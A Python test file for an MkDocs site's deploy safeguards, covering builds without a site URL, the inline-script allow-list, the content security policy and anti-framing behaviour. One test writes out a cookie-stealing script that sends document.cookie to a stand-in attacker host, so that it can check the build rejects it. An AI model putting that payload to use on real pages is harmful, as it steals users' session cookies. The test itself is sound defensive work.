"""Deploy traps: what a careless build or an extra script must not publish, and framing."""

from __future__ import annotations

import functools
import subprocess
import threading
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from conftest import ENV, MKDOCS, ROOT, copy_of_site


def build(project: Path, out: Path, **env: str) -> subprocess.CompletedProcess:
    environment = {k: v for k, v in ENV.items() if k not in ("SITE_URL", "REPO_URL")} | env
    return subprocess.run([*MKDOCS, "build", "--strict", "-d", str(out)], cwd=project, env=environment,
                          capture_output=True, text=True, timeout=600)


def test_a_build_without_site_url_publishes_no_absolute_address(tmp_path):
    """No SITE_URL: the strict build passes, says so, and points nothing at a wrong host."""
    out = tmp_path / "out"
    result = build(ROOT, out)
    output = result.stdout + result.stderr
    assert result.returncode == 0, output[-2000:]
    assert "SITE_URL is not set" in output
    assert not (out / "sitemap.xml").exists() and not (out / "sitemap.xml.gz").exists()
    assert "Sitemap:" not in (out / "robots.txt").read_text()
    for page in out.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert 'rel="canonical"' not in html and "127.0.0.1" not in html, page.relative_to(out)


def test_an_inline_script_pasted_into_a_page_stops_the_build_naming_the_page(tmp_path):
    project = copy_of_site(tmp_path)
    page = project / "docs" / "reapply.md"
    page.write_text(page.read_text() + '\n<script>fetch("https://evil.example/?c=" + document.cookie)</script>\n')
    result = build(project, tmp_path / "out", SITE_URL="https://example.org/")
    output = result.stdout + result.stderr
    assert result.returncode != 0, "a pasted script must never be whitelisted by the policy"
    assert "reapply/index.html: inline script not in the allow-list" in output, output[-2000:]


def test_the_policy_lists_only_the_allowed_inline_scripts(site):
    from hooks.site import INLINE_SCRIPTS, script_hash  # noqa: F401 - the allow-list in the repo

    policy = (site / "_headers").read_text()
    assert "frame-ancestors 'none'" in policy and "X-Frame-Options: DENY" in policy
    hashes = policy.count("'sha256-")
    # One hash per allowed script text; the storage-scope script differs only by the page depth.
    assert 0 < hashes <= len(INLINE_SCRIPTS) + 6, policy


def test_a_page_framed_by_another_site_shows_nothing(browser, base_url):
    outer = Path(__import__("tempfile").mkdtemp())
    (outer / "index.html").write_text(
        f'<!doctype html><title>frame</title><iframe id="f" src="{base_url}causes/not-received/" '
        'width="360" height="600"></iframe>')

    class Quiet(SimpleHTTPRequestHandler):
        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(outer)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        context = browser.new_context()
        pg = context.new_page()
        pg.goto(f"http://127.0.0.1:{server.server_address[1]}/")
        frame = pg.frame_locator("#f")
        frame.locator("article").wait_for(state="attached")
        assert frame.locator("html.framed").count() == 1
        assert frame.locator("body").evaluate("b => getComputedStyle(b).display") == "none"
        context.close()
    finally:
        server.shutdown()
